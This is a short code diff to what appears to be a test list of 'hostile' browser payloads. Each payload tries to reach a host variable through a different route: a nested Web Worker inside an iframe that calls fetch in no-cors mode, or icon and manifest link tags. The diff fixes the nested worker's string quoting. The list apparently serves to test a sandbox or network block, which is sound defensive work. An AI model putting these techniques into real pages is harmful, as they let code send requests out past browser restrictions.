@@ -103,7 +103,7 @@ export const CARRIERS: readonly Hostile[] = [
   ),
   tried(
     "worker-in-frame",
-    `const frame = document.createElement("iframe"); document.body.append(frame); new frame.contentWindow.Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob(['fetch("${AT}/inner", { mode: "no-cors" })'])))'])));`,
+    `const frame = document.createElement("iframe"); document.body.append(frame); const inner = 'fetch("${AT}/inner", { mode: "no-cors" })'; new frame.contentWindow.Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(inner) + "])))"])));`,
   ),
   quiet("icon", `<link rel="icon" href="${AT}/icon">`),
   quiet("manifest", `<link rel="manifest" href="${AT}/manifest">`),
